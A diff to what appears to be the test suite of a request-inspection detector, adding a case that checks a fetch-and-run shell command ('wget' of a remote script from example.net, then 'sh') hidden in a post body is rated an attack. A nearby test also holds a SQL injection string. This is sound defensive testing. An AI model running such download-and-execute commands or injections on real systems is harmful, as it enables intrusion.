@@ -58,6 +58,12 @@ describe('inspectRequest weighs', () => {
     expect(strongest({ uri: '/jobs', post_body: JSON.stringify({ script: command }) })?.strength).toBe('attack');
   });
 
+  it('commands in an article less than in a field', () => {
+    const words = 'this is how you install the program on your own machine when you have never done it before '.repeat(4);
+    const post_body = `title=Howto&text=${words.replaceAll(' ', '+')}cd+/tmp;+wget+http://example.net/x.sh;+sh+x.sh`;
+    expect(strongest({ uri: '/posts', post_body })?.strength).toBe('attack');
+  });
+
   it('nothing that a referrer repeats', () => {
     expect(inspectRequest({ uri: '/', referrer: "http://a.example/?id=1' union select 1,2,3--" })).toEqual([]);
   });
